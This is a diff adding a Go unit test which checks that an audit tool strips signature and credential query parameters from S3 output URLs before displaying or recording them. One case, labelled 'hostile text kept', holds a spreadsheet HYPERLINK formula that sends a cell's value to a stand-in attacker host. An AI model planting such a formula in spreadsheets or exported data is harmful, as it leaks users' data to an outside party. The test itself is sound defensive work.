@@ -1,0 +1,66 @@
+package audit_test
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/auditor-dev/auditor/audit"
+)
+
+// TestOutputURLWithoutCredentials: an S3 output URL whose query carries a
+// request signature or credentials (a presigned URL, SigV4 or SigV2) is
+// shown, and recorded, without that query; any other URL as it is.
+func TestOutputURLWithoutCredentials(t *testing.T) {
+	const bare = "https://ssm-out.s3.eu-west-1.amazonaws.com/run/i-0123456789abcdef0/stdout"
+	tests := []struct {
+		name, raw, want string
+	}{
+		{"plain", bare, bare},
+		{"none", "", ""},
+		{"other query kept", bare + "?versionId=3", bare + "?versionId=3"},
+		{"hostile text kept", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{"sigv4", bare + "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAEXAMPLE%2F20250601%2Feu-west-1%2Fs3%2Faws4_request" +
+			"&X-Amz-Date=20250601T120000Z&X-Amz-Expires=3600&X-Amz-Security-Token=TOKEN&X-Amz-SignedHeaders=host&X-Amz-Signature=abc123", bare},
+		{"sigv4 with another parameter first", bare + "?versionId=3&X-Amz-Signature=abc123", bare},
+		{"sigv2", bare + "?AWSAccessKeyId=AKIAEXAMPLE&Expires=1748779200&Signature=vjbyPxybdZaNmGa%2ByT272YEAiv4%3D", bare},
+		{"lower case", bare + "?x-amz-security-token=TOKEN", bare},
+		{"names escaped", bare + "?X%2DAmz%2DSignature=abc123", bare},
+		{"in the fragment", bare + "#X-Amz-Security-Token=TOKEN", bare},
+		{"s3 scheme", "s3://ssm-out/run/stdout?X-Amz-Credential=ASIAEXAMPLE", "s3://ssm-out/run/stdout"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a := audit.Association{AssociationID: "a-1", OutputURL: &audit.OutputURL{S3OutputURL: &audit.S3OutputURL{OutputURL: tt.raw}}}
+			if got := a.URL(); got != tt.want {
+				t.Errorf("URL() = %q, want %q", got, tt.want)
+			}
+			var line bytes.Buffer
+			if err := audit.EncodeResult(&line, audit.Result{InstanceID: "i-0123456789abcdef0", Outcome: audit.OutcomeCompliant,
+				Associations: []audit.Association{a}}); err != nil {
+				t.Fatal(err)
+			}
+			for _, secret := range []string{"TOKEN", "abc123", "AKIAEXAMPLE", "ASIAEXAMPLE", "vjbyPxybdZaNmGa"} {
+				if strings.Contains(tt.raw, secret) && strings.Contains(line.String(), secret) {
+					t.Errorf("the record holds %q: %s", secret, line.String())
+				}
+			}
+			if tt.raw != "" && !strings.Contains(line.String(), `"OutputUrl":`) {
+				t.Errorf("the record lost the output URL: %s", line.String())
+			}
+			if tt.raw == "" && a.URL() != "" {
+				t.Errorf("an empty URL became %q", a.URL())
+			}
+		})
+	}
+	// The association given is not changed: it is the caller's.
+	raw := bare + "?X-Amz-Signature=abc123"
+	a := audit.Association{OutputURL: &audit.OutputURL{S3OutputURL: &audit.S3OutputURL{OutputURL: raw}}}
+	var line bytes.Buffer
+	if err := audit.EncodeResult(&line, audit.Result{InstanceID: "i-0123456789abcdef0", Outcome: audit.OutcomeCompliant, Associations: []audit.Association{a}}); err != nil {
+		t.Fatal(err)
+	}
+	if a.OutputURL.S3OutputURL.OutputURL != raw {
+		t.Errorf("EncodeResult changed its argument's URL to %q", a.OutputURL.S3OutputURL.OutputURL)
+	}
+}
